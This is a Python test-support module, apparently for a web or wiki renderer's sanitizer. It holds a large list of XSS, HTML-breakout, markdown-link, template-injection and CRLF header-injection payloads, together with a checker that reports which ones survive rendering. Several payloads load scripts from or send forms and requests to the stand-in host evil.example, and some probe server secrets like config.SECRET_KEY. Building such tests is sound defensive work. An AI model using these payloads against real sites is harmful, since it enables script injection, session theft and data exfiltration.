"""Texts that try to run script, to forge the page, or to break out of where they stand; and how to see that none did.

Each carries the word `MARK`, so that whatever came of it is found again wherever it stands on a page.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib

MARK = "zz9"
RUN = f"{MARK}()"

_MARKUP = f"""\
<script>{RUN}</script>
<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>
<scr<script>ipt>{RUN}</scr</script>ipt>
<script\\x20>{RUN}</script>
<script/x>{RUN}</script >
</script><script>{RUN}</script>
</textarea><script>{RUN}</script>
</title><script>{RUN}</script>
</style><script>{RUN}</script>
--><script>{RUN}</script><!--
]]><script>{RUN}</script>
<!--><img src=x onerror={RUN}>
<img src=x onerror={RUN}>
<img/src=x/onerror={RUN}>
<img src=x:x onerror="{RUN}" hidden>
<img src=`x` onerror={RUN}>
<IMG SRC=javascript:{RUN}>
<image href=x onerror={RUN}>
<svg onload={RUN}>
<svg/onload={RUN}//
<svg><script>{RUN}</script></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<svg><a xlink:href=javascript:{RUN}><text y=9>{MARK}</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x">
<svg><style><img src=x onerror={RUN}></style>
<svg></p><style><a id="</style><img src=1 onerror={RUN}>">
<math><mtext><table><mglyph><style><img src=x onerror={RUN}>
<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={RUN} src=1>">
<math href=javascript:{RUN}>{MARK}</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<xmp><p title="</xmp><svg onload={RUN}>">
<template><script>{RUN}</script></template>
<iframe src=javascript:{RUN}></iframe>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<object data=javascript:{RUN}></object>
<embed src=javascript:{RUN}>
<body onload={RUN}>
<body onpageshow={RUN}>
<html onmouseover={RUN}>
<details open ontoggle={RUN}>{MARK}</details>
<input autofocus onfocus={RUN}>
<select autofocus onfocus={RUN}>
<textarea autofocus onfocus={RUN}>
<button autofocus onfocus={RUN}>{MARK}</button>
<a href=javascript:{RUN}>{MARK}</a>
<a href="java&Tab;script&colon;{RUN}">{MARK}</a>
<a href=x onclick={RUN} class=cdx-button>{MARK}</a>
<video><source onerror={RUN}></video>
<audio src=x onerror={RUN}>
<marquee onstart={RUN}>{MARK}</marquee>
<link rel=stylesheet href=//evil.example/{MARK}.css>
<style>@import '//evil.example/{MARK}.css';</style>
<style>body{{background:url(//evil.example/{MARK})}}</style>
<div style="background:url(javascript:{RUN})">{MARK}</div>
<p style=position:fixed;inset:0>{MARK}</p>
<meta http-equiv=refresh content="0;url=javascript:{RUN}">
<meta http-equiv=refresh content="0;url=//evil.example/{MARK}">
<base href=//evil.example/{MARK}/>
<form action=//evil.example/{MARK}><button>Approve</button></form>
<input form=main name=csrf_token value={MARK}>
<button formaction=//evil.example/{MARK}>Approve</button>
<div id=main>{MARK}</div>
<a name=htmx id=htmx>{MARK}</a>
<x onpointerenter={RUN} contenteditable>{MARK}
<p hx-get=/account hx-trigger=load>{MARK}</p>
<p hx-on:load={RUN}>{MARK}</p>
<p hx-on::load="{RUN}">{MARK}</p>
<p data-hx-get=/{MARK} data-hx-trigger=load>{MARK}</p>
<p hx-vals='js:{{a:{RUN}}}' hx-post=/{MARK} hx-trigger=load>{MARK}</p>
<p data-opens=keys data-copy={MARK}>{MARK}</p>
<dialog open class=keys>{MARK}</dialog>
<script type=speculationrules>{{"prefetch":[{{"urls":["/{MARK}"]}}]}}</script>
&lt;script&gt;{RUN}&lt;/script&gt;
&#60;img src=x onerror={RUN}&#62;
%3Cscript%3E{RUN}%3C/script%3E
\\u003cscript\\u003e{RUN}\\u003c/script\\u003e
+ADw-script+AD4-{RUN}+ADw-/script+AD4-
\uff1cscript\uff1e{RUN}\uff1c/script\uff1e
\u2028<script>{RUN}</script>
\u202e>tpircs<{RUN}<script>
\u200b<script>{RUN}</script>"""
_BREAKS = f"""\
" onmouseover="{RUN}" x="
' onmouseover='{RUN}' x='
" autofocus onfocus="{RUN}
' autofocus onfocus='{RUN}
"><script>{RUN}</script>
'><script>{RUN}</script>
"/><svg onload={RUN}>
` onmouseover={RUN} x=`
" style="position:fixed" x="{MARK}
" hx-get="/{MARK}" hx-trigger="load
{MARK}" hx-on::load="{RUN}
'-{RUN}-'
";{RUN};//
${{{RUN}}}
\\";{RUN}//
{{{{7*7}}}}{MARK}
{{{{config.SECRET_KEY}}}}{MARK}
{{% for x in [1] %}}{MARK}{{% endfor %}}
{{{{''.__class__.__mro__}}}}{MARK}
#{{7*7}}{MARK}
<%= 7*7 %>{MARK}
%(wiki)s %s %n %(x)d {MARK}
{{0}} {{x}} {{0.__class__}} {MARK}
{MARK}\\
{MARK}&{MARK}&amp;{MARK}&lt
{MARK}%0d%0aLocation:%20//evil.example"""
_MARKDOWN = f"""\
![{MARK}](javascript:{RUN})
![{MARK}](//evil.example/{MARK}.png)
![{MARK}][i{MARK}]
<javascript:{RUN}>
<data:text/html,{MARK}>
<https://a.example/"onmouseover="{RUN}>
<a@b.example"onmouseover={RUN}>
[{MARK}]: javascript:{RUN}
[i{MARK}]: //evil.example/{MARK}.png
[{MARK}]
[{MARK}](https://a.example "x\\" onclick={RUN} \\"")
[{MARK}](https://a.example 'x' onclick={RUN})
[{MARK}](<https://a.example/> onclick={RUN}>)
[<img src=x onerror={RUN}>](https://a.example)
[![{MARK}](javascript:{RUN})](javascript:{RUN})
[{MARK}](https://a.example/**"onmouseover={RUN}**)
**<b onmouseover={RUN}>**{MARK}
`<img src=x onerror={RUN}>`
``` <script>{RUN}</script>
# <svg onload={RUN}>
> <script>{RUN}</script>
* <iframe src=javascript:{RUN}>
1. <object data=javascript:{RUN}>
{MARK} {{: onclick={RUN} }}
{MARK}{{.cdx-button onclick={RUN}}}
<div markdown=1 onclick={RUN}>*{MARK}*</div>
<p>{MARK}</p onclick={RUN}>
| <script>{RUN}</script> | {MARK} |
[[javascript:{RUN}]]
[[javascript:{RUN}|{MARK}]]
[[data:text/html,{MARK}|{MARK}]]
[[//evil.example/{MARK}]]
[[/\\evil.example/{MARK}]]
[[@evil.example/{MARK}]]
[[../../../{MARK}?action=logout]]
[[{MARK}|<img src=x onerror={RUN}>]]
[[{MARK}|" onmouseover="{RUN}]]
[[" onmouseover="{RUN}]]
[[{MARK}#" onmouseover="{RUN}]]
[[w:" onmouseover="{RUN}|{MARK}]]
[[mw:javascript:{RUN}]]
[[{MARK}|[{MARK}](javascript:{RUN})]]
[[{MARK}|**{MARK}**]]
[[[[{MARK}]]]]
T1" onmouseover="{RUN}
T999<img src=x onerror={RUN}>
T1](javascript:{RUN})
@{MARK}"onmouseover={RUN}
@[" onmouseover="{RUN}]
@[<svg onload={RUN}>]
@[../../sign-out?{MARK}]
@[{MARK}](javascript:{RUN})
@[javascript:{RUN}]
[@[{MARK}]](javascript:{RUN})"""
_SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "&#x6A;avascript:",
    "javascript&colon;", "%6Aavascript:", "\x01javascript:", "\u00a0javascript:", "vbscript:", "livescript:",
    "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=", "blob:", "filesystem:",
    "view-source:javascript:", "jar:javascript:", "feed:javascript:", "javascript://a.example/%0A",
    "javascript:/*https://a.example/*/",
]  # fmt: skip


def _lines() -> Iterator[str]:
    yield f"{MARK}\r\nSet-Cookie: {MARK}=b"
    for block in (_MARKUP, _BREAKS, _MARKDOWN):
        yield from (line for line in block.split("\n") if line)
    for scheme, shape in product(_SCHEMES, ("[{mark}]({address})", "{address}")):
        yield shape.format(mark=MARK, address=f"{scheme}{RUN}")


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_lines()))
ADDRESSES = tuple(f"{scheme}{RUN}" for scheme in _SCHEMES)
# What a fence or an open comment would swallow comes in a paragraph of its own.
DOCUMENT = "\n\n".join(sorted(PAYLOADS, key=lambda line: line.startswith("```")))

HARMLESS_PLACES = {
    ("input", "value"), ("button", "data-copy"), ("option", "value"), ("button", "value"),
}  # fmt: skip
NAMES_WHAT_IT_IS = ("aria-label", "title", "alt", "placeholder")
ACTING = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "link",
    "meta",
    "img",
    "video",
    "audio",
}
OWN_SCHEMES = ("http", "https", "mailto", "")


def faults(html: str) -> list[str]:
    """One line for each thing that a hostile text became on this page besides text."""
    tree: Element = html5lib.parse(html, namespaceHTMLElements=False)
    found = [fault for element in tree.iter() if isinstance(element.tag, str) for fault in _faults_of(element)]
    if f"49{MARK}" in html:
        found.append("a template was run")
    return found


def _faults_of(element: Element) -> Iterator[str]:
    tag = str(element.tag).rpartition("}")[2]
    if tag in ACTING and MARK in (element.text or ""):
        yield f"text inside {tag}"
    for name, value in element.attrib.items():
        acts = name.startswith("on") or name in ("style", "srcdoc")
        says = MARK in value or value.strip().lower().startswith("javascript:")
        if acts or MARK in name or (says and not _is_harmless(tag, name, value)):
            yield f"{tag} {name}={value[:80]!r}"


def _is_harmless(tag: str, name: str, value: str) -> bool:
    if name in NAMES_WHAT_IT_IS or (tag, name) in HARMLESS_PLACES:
        return True
    if (tag, name) != ("a", "href"):
        return False
    try:
        return urlsplit(value.strip()).scheme.lower() in OWN_SCHEMES
    except ValueError:
        return False
